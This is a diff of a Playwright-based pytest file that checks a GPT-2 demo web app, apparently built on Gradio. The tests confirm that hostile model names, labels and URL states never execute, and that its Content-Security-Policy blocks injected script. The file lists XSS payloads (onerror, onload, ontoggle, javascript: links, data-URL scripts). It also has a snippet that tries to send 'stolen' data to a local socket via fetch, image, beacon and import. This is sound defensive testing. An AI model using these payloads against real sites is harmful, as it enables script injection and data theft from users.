@@ -2,10 +2,10 @@
 
 import json
 import shutil
+import socket
 import subprocess
 import sys
 import time
-from contextlib import contextmanager
 
 import pytest
 
@@ -27,11 +27,42 @@ LABELS = (
 )
 # Each would run in a page without a policy, wherever it got into it.
 WOULD_RUN = (
-    f'<img src="x" onerror="{RUN}">',
+    f'<img src="data:," onerror="{RUN}">',
     f"<svg onload={RUN}></svg>",
-    f'<iframe srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>"></iframe>',
+    f'<iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>',
     f"<details open ontoggle={RUN}></details>",
     f'<object data="data:text/html,<script>{RUN}</script>"></object>',
+)
+# A script element, a link that is a script, and four ways to send something away.
+SPEAK = """async ([code, url]) => {
+    const script = document.createElement("script");
+    script.textContent = code;
+    const link = document.createElement("a");
+    link.href = `javascript:${code}`;
+    document.body.append(script, link);
+    link.click();
+    const failed = (what) => what.then(() => "went", () => "kept");
+    const image = new Image();
+    const drawn = new Promise((yes, no) => { image.onload = yes; image.onerror = no; });
+    image.src = url;
+    navigator.sendBeacon(url, "stolen");
+    return {
+        fetch: await failed(fetch(url, { mode: "no-cors" })),
+        image: await failed(drawn),
+        script: await failed(import(url)),
+    };
+}"""
+MADE = ["1a2b3c4d", "float32", "cpu", "0.1.0"]
+ALL = [3, 1, 0, 1, 0, 1, 0]  # new tokens and the other settings
+STATES = (
+    f"#v=1.generate.{NAME}",
+    f"?__theme={NAME}&view={NAME}#{NAME}",
+    pack_link("generate", {"a": [NAME] * 4, "m": NAME, "p": NAME, "s": ALL, "x": NAME, "l": {}}),
+    pack_link(
+        "generate",
+        {"a": MADE, "m": "tiny", "p": NAME, "s": ALL, "x": "", "c": [], "l": {"view": NAME}},
+    ),
+    pack_link("classify", {"a": MADE, "m": LABELS[1], "p": NAME, "l": {"many": NAME}}),
 )
 NEWS = "Oil prices climb ahead of the storm"
 
@@ -63,97 +94,74 @@ def hostile_page(starter, tmp_path_factory, root, model_directory, classifier_di
         process.kill()
 
 
-@contextmanager
-def at(browser, url, home=None):
-    """A page of its own, at an address; nothing may have run in it when it is left."""
+@pytest.fixture
+def visit_hostile(hostile_page, browser):
+    """Opens that page; nothing may have gone wrong or run in it in the end."""
     context = browser.new_context(viewport={"width": 1280, "height": 900})
-    try:
-        with visits(browser, context, home or url) as visit:
-            visit.forgiven = "Content Security Policy"
-            page = visit(url)
-            yield page
-            assert page.evaluate("window.__x") is None
-    finally:
-        context.close()
+    with visits(browser, context, hostile_page) as visit:
+        yield visit
+    context.close()
 
 
-def test_names_and_labels_are_never_run(hostile_page, browser):
-    with at(browser, hostile_page) as page:
-        expect(page.locator("#head")).to_contain_text(NAME)
-        generate(page, f"{NAME} {LABELS[1]}", settings={"New tokens": 4})
-        for title in ("Attention", "Layers", "Switch off", "Why", "Score"):
-            show(page, title)
-        classify(page, f"{LABELS[0]} {NEWS}")
-        for title in ("When did it decide", "Attention", "Why", "Many texts"):
-            view = show(page, title, "classify")
-        expect(view).to_contain_text("onerror=")
-        shown = page.locator(".strip, .slot, #head, .legend")
-        assert shown.locator("img, script, iframe").count() == 0
-        for one in page.locator("[onmouseover], [onerror], [onload]").all():
-            pytest.fail(one.evaluate("e => e.outerHTML"))
+def nothing_ran(page):
+    assert page.evaluate("window.__x") is None
+    shown = page.locator(".strip, .slot, #head, .legend, .copy")
+    assert shown.locator("img, script, iframe").count() == 0
+    assert page.locator("[onmouseover], [onerror], [onload]").count() == 0
 
 
-@pytest.mark.parametrize(
-    "state",
-    [
-        f"#{NAME}",
-        f"#v=1.generate.{NAME}",
-        f"?__theme={NAME}",
-        f"?view={NAME}#v=1.{NAME}",
-        pack_link("generate", {"a": [NAME] * 4, "m": NAME, "p": NAME, "s": [], "x": NAME, "l": {}}),
-        pack_link("generate", {"a": ["a"] * 4, "m": NAME, "p": NAME, "s": [3, 1, 0, 1, 0, 1, 0],
-                               "x": LABELS[1], "c": [], "l": {"view": NAME, "kind": NAME}}),
-        pack_link("classify", {"a": ["a"] * 4, "m": LABELS[1], "p": NAME, "l": {"many": NAME}}),
-    ],
-)  # fmt: skip
-def test_what_an_address_holds_is_never_run(page_server, browser, state):
+def test_names_and_labels_are_never_run(visit_hostile):
+    """The name stood in a template, of which Gradio runs what is in ${...}."""
+    page = visit_hostile()
+    expect(page.locator("#head")).to_contain_text(NAME)
+    generate(page, f"{NAME} {LABELS[1]}", settings={"New tokens": 4})
+    for title in ("Attention", "Why", "Score"):
+        show(page, title)
+    classify(page, f"{LABELS[0]} {NEWS}")
+    for title in ("When did it decide", "Why", "Many texts"):
+        view = show(page, title, "classify")
+    expect(view).to_contain_text("onerror=")
+    nothing_ran(page)
+
+
+def test_what_an_address_holds_is_never_run(visit):
     """Also where it is told what is wrong with it."""
-    with at(browser, page_server.url + state, page_server.url) as page:
-        page.wait_for_function("gpt2.open_stage()?.text || document.querySelector('[role=alert]')")
-        page.wait_for_timeout(300)
-        assert page.locator(".strip, .slot").locator("img, script, iframe").count() == 0
+    page = visit()
+    home = page.url
+    for state in STATES:
+        page.goto("about:blank")
+        page.goto(f"{home}{state}")
+        page.get_by_role("button", name="Generate", exact=True).wait_for()
+        page.wait_for_timeout(700)
+        nothing_ran(page)
 
 
-def test_what_got_into_the_page_would_not_run_and_could_not_speak(page_server, browser):
-    """If all else fails: the Content-Security-Policy."""
-    with at(browser, page_server.url) as page:
-        page.evaluate("window.seen = []; document.addEventListener('securitypolicyviolation', "
-                      "event => window.seen.push(event.effectiveDirective))")  # fmt: skip
-        page.evaluate(
-            "all => document.body.insertAdjacentHTML('beforeend', all)", "".join(WOULD_RUN)
+def test_what_got_into_the_page_would_not_run_and_could_not_speak(browser, page_server):
+    """If all else fails, there is the Content-Security-Policy."""
+    page = browser.new_page()
+    page.goto(page_server.url)
+    page.get_by_role("button", name="Generate", exact=True).wait_for()
+    page.evaluate(
+        """all => {
+            window.seen = new Set();
+            const add = (event) => window.seen.add(event.effectiveDirective);
+            document.addEventListener("securitypolicyviolation", add);
+            document.body.insertAdjacentHTML("beforeend", all);
+        }""",
+        "".join(WOULD_RUN),
+    )
+    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        elsewhere.settimeout(0.5)
+        failed = page.evaluate(
+            SPEAK, [RUN, f"http://127.0.0.1:{elsewhere.getsockname()[1]}/?stolen"]
         )
-        page.evaluate(
-            """code => {
-                const script = document.createElement("script");
-                script.textContent = code;
-                document.body.append(script);
-                const link = document.createElement("a");
-                link.href = `javascript:${code}`;
-                document.body.append(link);
-                link.click();
-            }""",
-            RUN,
-        )
-        page.wait_for_timeout(500)
-        assert page.evaluate("window.__x") is None
-        tried = page.evaluate(
-            """async url => {
-                const failed = (what) => what.then(() => "went", () => "kept");
-                const image = new Image();
-                const drawn = new Promise((yes, no) => { image.onload = yes; image.onerror = no; });
-                image.src = `${url}a.png?stolen`;
-                return {
-                    fetch: await failed(fetch(url, { mode: "no-cors" })),
-                    image: await failed(drawn),
-                    beacon: navigator.sendBeacon(url, "stolen") ? "sent" : "kept",
-                    script: await failed(import(`${url}a.js`)),
-                };
-            }""",
-            "http://127.0.0.2:9/",
-        )
-        assert {tried["fetch"], tried["image"], tried["script"]} == {"kept"}
-        wanted = {"script-src-attr", "script-src-elem", "connect-src", "img-src", "object-src"}
-        assert wanted <= {*page.evaluate("window.seen")}
+        assert failed == {"fetch": "kept", "image": "kept", "script": "kept"}
+        with pytest.raises(TimeoutError):
+            elsewhere.accept()
+    assert page.evaluate("window.__x") is None
+    wanted = {"script-src-attr", "script-src-elem", "connect-src", "img-src", "frame-src"}
+    assert wanted <= {*page.evaluate("[...window.seen]")}
+    page.close()
 
 
 def test_who_signs_in_gets_the_page_and_can_use_it(
